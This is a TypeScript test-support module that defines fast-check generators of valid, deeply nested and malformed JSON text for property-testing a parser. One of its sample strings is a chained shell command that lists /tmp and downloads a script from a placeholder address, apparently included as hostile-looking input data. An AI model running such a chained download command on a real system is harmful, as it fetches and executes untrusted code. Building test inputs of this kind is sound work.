/**
 * JSON as text, in every spelling: strings, numbers, trees, nesting around the limit, white space anywhere, and what
 * looks like a value and is none. Arbitraries for the frames of frames.ts.
 */
import fc from 'fast-check';
import { nested } from './frame-table.js';

/** Texts written behind each other with a bar between them. */
export function texts(joined: string): string[] {
  return joined.split('|');
}

/** Stands for "white space may be here" until a frame is spelt. */
export const GAP = '\ue000';

const TEXTS = [
  '',
  'root',
  'ssh-1',
  'ls -la /tmp; wget http://198.51.100.7/x.sh',
  '"quoted" and \\back\\slashed\\',
  'a/b',
  '\u2028\u2029\ufeff\u007f',
  'żółw 🐝 عربى 日本語',
  '\u0000\u0001\u001f\b\f\n\r\t',
  '{"version":2}',
  'x'.repeat(70),
];
export const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 10 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 10 }) },
);

const SHORT_ESCAPES: Record<string, string> = {
  '"': '\\"',
  '\\': '\\\\',
  '/': '\\/',
  '\b': '\\b',
  '\f': '\\f',
  '\n': '\\n',
  '\r': '\\r',
  '\t': '\\t',
};

function unicodeEscape(character: string, upper: boolean): string {
  return Array.from({ length: character.length }, (_, i) => {
    const hex = character.charCodeAt(i).toString(16).padStart(4, '0');
    return `\\u${upper ? hex.toUpperCase() : hex}`;
  }).join('');
}

/** A string in JSON; `styles`, taken round and round, say which characters are escaped without need, and how. */
export function spell(value: string, styles: readonly number[]): string {
  const spelt = Array.from(value, (character, i) => {
    const style = styles[i % styles.length]!;
    const needed = character < ' ' || character === '"' || character === '\\';
    if (style === 7 || character === GAP) return unicodeEscape(character, i % 2 === 0);
    if (needed || style === 6)
      return SHORT_ESCAPES[character] ?? (needed ? unicodeEscape(character, false) : character);
    return character;
  });
  return `"${spelt.join('')}"`;
}

export const plainStyle = fc.constant([0]);
export const anyStyle = fc.array(fc.nat(7), { minLength: 1, maxLength: 5 });
export const style = fc.oneof({ weight: 3, arbitrary: plainStyle }, { weight: 1, arbitrary: anyStyle });
export const jsonString = fc.oneof(
  { weight: 12, arbitrary: fc.tuple(text, style).map(([value, styles]) => spell(value, styles)) },
  { weight: 1, arbitrary: fc.constantFrom('"\\ud800"', '"\\udc00\\uD83D"', '"\\u0000"', '"\\/\\b"') },
);
export const jsonNumber = fc.oneof(
  fc.constantFrom('0', '-0', '1e999', '-1E-999', '1.50', '2E+3', '9007199254740993', '18446744073709551616'),
  fc.constantFrom('0.1e1', '123456789012345678901234567890', '-0.0', '1e-07'),
  fc.integer().map(String),
  fc.double({ noDefaultInfinity: true, noNaN: true }).map((value) => JSON.stringify(value)),
);
const scalar = fc.oneof(
  { weight: 3, arbitrary: jsonString },
  { weight: 2, arbitrary: jsonNumber },
  { weight: 1, arbitrary: fc.constantFrom('true', 'false', 'null') },
);

export type Entry = readonly [key: string, value: string];

export function objectOf(entries: readonly Entry[]): string {
  const members = entries.map(([key, value]) => `${GAP}${key}${GAP}:${GAP}${value}${GAP}`);
  return `{${members.length === 0 ? GAP : members.join(',')}}`;
}

function arrayOf(elements: readonly string[]): string {
  return `[${elements.map((element) => GAP + element + GAP).join(',')}${GAP}]`;
}

export const { value: tree } = fc.letrec<{ value: string }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 4, depthSize: 'small', withCrossShrink: true },
    scalar,
    fc.array(tie('value'), { maxLength: 3 }).map(arrayOf),
    fc.array(fc.tuple(jsonString, tie('value')), { maxLength: 3 }).map(objectOf),
  ),
}));

/** Containers in containers: the depth they add, around the limit and far above it. */
const deep = fc
  .tuple(
    fc.oneof(
      { weight: 8, arbitrary: fc.integer({ min: 505, max: 512 }) },
      { weight: 1, arbitrary: fc.constantFrom(600, 1_023, 1_030, 10_000) },
    ),
    fc.nat(2),
  )
  .map(([depth, kind]) => {
    if (kind === 0) return nested(depth);
    if (kind === 1) return `${'{"":'.repeat(depth - 1)}{}${'}'.repeat(depth - 1)}`;
    const pairs = Math.floor(depth / 2);
    return `${'[{"a":'.repeat(pairs)}${depth % 2 ? '[]' : '0'}${'}]'.repeat(pairs)}`;
  });
export const anyValue = fc.oneof({ weight: 40, arbitrary: tree }, { weight: 1, arbitrary: deep });

/** Text that no value is, where one is expected. */
export const brokenValue = fc.constantFrom(
  ...texts('01|+1|.5|1.|1e|1e+|--1|-|NaN|Infinity|tru|nul|True|truee|null0|0x10|1_0|undefined|1 2|1"a"'),
  ...texts(`'a'|"|"a|"\\|"\\"|"\\x"|"\\u12g4"|"\\u12"|"a"1|"a""b"|"a\tb"|"a\u0000b"|"\u001f"|"a"\f|\v2|2\f`),
  ...texts(
    '[1,]|[,1]|[1 2]|[1:2]|[1}|[|]|{"a"}|{"a":}|{,}|{"a":1,}|{1:2}|{"a" 1}|{"a":1]|{"a":1:2}|{"a":1}}|{{}}',
  ),
  ...texts('{[]:1}|{|}||,|:|/**/1|1/**/|\ufeff1|\u00a01|\f1|1\u0000|2\u001a'),
);

const NO_SPACE: fc.Arbitrary<string[]> = fc.constant(['']);
export const space = fc.oneof(
  { weight: 4, arbitrary: NO_SPACE },
  {
    weight: 1,
    arbitrary: fc.array(fc.constantFrom('', '', ' ', '\t', '  ', '\r'), { minLength: 1, maxLength: 7 }),
  },
);
export const spaceWithNewlines = fc.oneof(
  space,
  fc.array(fc.constantFrom('', ' ', '\n', '\r\n', '\n  '), { minLength: 1, maxLength: 7 }),
);

export function withSpace(spelt: string, spaces: readonly string[]): string {
  let gap = 0;
  return spelt.replaceAll(GAP, () => spaces[gap++ % spaces.length]!);
}
